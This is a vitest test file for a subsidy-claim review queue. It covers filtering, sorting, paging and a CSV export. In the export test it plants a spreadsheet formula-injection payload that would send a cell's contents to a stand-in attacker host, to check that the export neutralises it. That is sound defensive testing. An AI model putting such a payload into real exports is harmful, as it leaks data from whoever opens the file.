import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDatabase, type TestDatabase } from "@/tooling/db/test-database";
import { assignClaimToReviewer } from "@/lib/review/assign-claim-to-reviewer";
import Papa from "papaparse";
import { exportLabels } from "@/lib/exports/export-labels";
import { exportReviewQueue, reviewQueueColumns } from "@/lib/review/export-review-queue";
import { iterateReviewQueue, listReviewQueue, queueFilterSchema } from "@/lib/review/list-review-queue";
import { institution, reviewer, submittedOffshoreClaim, submittedTrainingClaim, uniqueResidentId } from "./review-fixtures";
import { DATABASE_KINDS, applyTestSecrets as applyTestSecrets } from "./test-env";

applyTestSecrets();

describe.each(DATABASE_KINDS)("review queue on %s", (kind) => {
  let db: TestDatabase;
  let me: Awaited<ReturnType<typeof reviewer>>;
  let small: Awaited<ReturnType<typeof submittedOffshoreClaim>>;
  let big: Awaited<ReturnType<typeof submittedOffshoreClaim>>;
  let training: Awaited<ReturnType<typeof submittedTrainingClaim>>;
  beforeAll(async () => {
    db = await createTestDatabase(kind);
    me = await reviewer(db.prisma);
    small = await submittedOffshoreClaim(db.prisma, "300000.00");
    big = await submittedOffshoreClaim(db.prisma, "3000000.00", 2023);
    const inst = await institution(db.prisma);
    training = await submittedTrainingClaim(db.prisma, inst, [uniqueResidentId("20010101"), uniqueResidentId("20020202")]);
    await assignClaimToReviewer(db.prisma, me, { kind: "OFFSHORE", claimId: small.claim.id, version: small.claim.version });
  });
  afterAll(async () => db?.close());

  const list = (params: Record<string, string>, pageSize?: number) => listReviewQueue(db.prisma, me, queueFilterSchema.parse(params), 100_000_00, pageSize);

  it("lists both kinds with counts per status", async () => {
    const all = await list({});
    expect(all.total).toBe(3);
    expect(all.counts).toEqual({ SUBMITTED: 2, UNDER_REVIEW: 1 });
    expect(new Set(all.rows.map((r) => r.kind))).toEqual(new Set(["OFFSHORE", "TRAINING"]));
  });

  it("filters by kind, status, year, organisation, amount, assignment and flag", async () => {
    expect((await list({ kind: "TRAINING" })).rows.map((r) => r.id)).toEqual([training.id]);
    expect((await list({ status: "UNDER_REVIEW" })).rows.map((r) => r.id)).toEqual([small.claim.id]);
    expect((await list({ year: "2023", kind: "OFFSHORE" })).rows.map((r) => r.id)).toEqual([big.claim.id]);
    expect((await list({ organisation: big.enterprise.organisation.nameZh.slice(-6) })).rows.map((r) => r.id)).toEqual([big.claim.id]);
    expect((await list({ minYuan: "100000" })).rows.map((r) => r.id)).toEqual([big.claim.id]);
    expect((await list({ maxYuan: "3000" })).rows.map((r) => r.id)).toEqual([training.id]);
    expect((await list({ assigned: "me" })).rows.map((r) => r.id)).toEqual([small.claim.id]);
    expect((await list({ assigned: "me" })).rows[0]?.assignedReviewerName).toMatch(/^审核/);
    expect((await list({ flagged: "1" })).rows.map((r) => r.id)).toEqual([big.claim.id]);
    expect((await list({ organisation: "%" })).total).toBe(0);
  });

  it("sorts and pages in the database", async () => {
    const byAmount = await list({ sort: "amount-desc" });
    // Sorted by what the claims declare; the big one shows what the cap lets an approval grant.
    expect(byAmount.rows.map((r) => r.declaredFen)).toEqual([600_000_00, 60_000_00, 3_000_00]);
    expect(byAmount.rows.map((r) => r.amountFen)).toEqual([500_000_00, 60_000_00, 3_000_00]);
    const page1 = await list({ sort: "amount-asc" }, 2);
    const page2 = await list({ sort: "amount-asc", page: "2" }, 2);
    expect(page1.rows.map((r) => r.amountFen)).toEqual([3_000_00, 60_000_00]);
    expect(page2.rows.map((r) => r.declaredFen)).toEqual([600_000_00]);
    expect(page2.total).toBe(3);
  });

  it("exports the queue as CSV with a hostile organisation name neutralised and the numbers left numbers", async () => {
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")';
    await db.prisma.organisation.update({ where: { id: small.enterprise.organisation.id }, data: { nameZh: hostile } });
    const stream = await exportReviewQueue(db.prisma, { id: me.id, role: "REVIEWER", cityId: me.cityId! }, queueFilterSchema.parse({}), { format: "csv", labels: exportLabels("zh-CN") });
    // ignoreBOM: keep the byte-order mark in the text, to see that the file has one.
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
    expect(text.startsWith("\uFEFF")).toBe(true);
    const [header, ...rows] = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
    expect(header).toEqual(["申报编号", "类型", "申报单位", "区县", "年度", "状态", "金额（元）", "提交时间（北京时间）", "审核人", "需关注", "申报金额（元）", "封顶原因", "关注原因"]);
    expect(rows).toHaveLength(3);
    const keys = reviewQueueColumns([], "nanchang").map((c) => c.key);
    const row = Object.fromEntries(keys.map((column, i) => [column, rows.find((r) => r[0] === small.claim.claimNo)![i]]));
    // Codes in the reader's language, the amount in yuan, the submission in China time.
    expect(row).toMatchObject({ kind: "离岸业务奖励", organisation: `'${hostile}`, claimYear: "2024", amountYuan: "60000.00", flagged: "否", status: "审核中" });
    expect(row.submittedAt).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
    // No cell of the file starts a formula.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    // The export is audited before its first byte.
    expect(await db.prisma.auditEntry.count({ where: { action: "review.queue-export", actorId: me.id } })).toBeGreaterThan(0);
  });

  it("shows the last page for a page past the end, never 'page 5 of 2'", async () => {
    const past = await list({ sort: "amount-asc", page: "5" }, 2);
    expect(past).toMatchObject({ page: 2, pageCount: 2, total: 3 });
    expect(past.rows.map((r) => r.declaredFen)).toEqual([600_000_00]);
    expect(await list({ organisation: "no such organisation", page: "3" })).toMatchObject({ page: 1, pageCount: 1, total: 0, rows: [] });
  });

  it("exports every matching row once, whatever the chunk size (a full last chunk included)", async () => {
    for (const chunk of [1, 2, 3]) {
      const ids: string[] = [];
      for await (const rows of iterateReviewQueue(db.prisma, me, queueFilterSchema.parse({ sort: "amount-asc" }), 100_000_00, chunk)) ids.push(...rows.map((r) => r.id));
      expect(ids).toEqual([training.id, small.claim.id, big.claim.id]);
    }
  });

  it("drops malformed filters instead of trusting them", () => {
    expect(queueFilterSchema.parse({ status: "DRAFT", sort: "evil", page: "-3", year: "abc" })).toMatchObject({ status: undefined, sort: "submitted-desc", page: 1, year: undefined });
  });
});
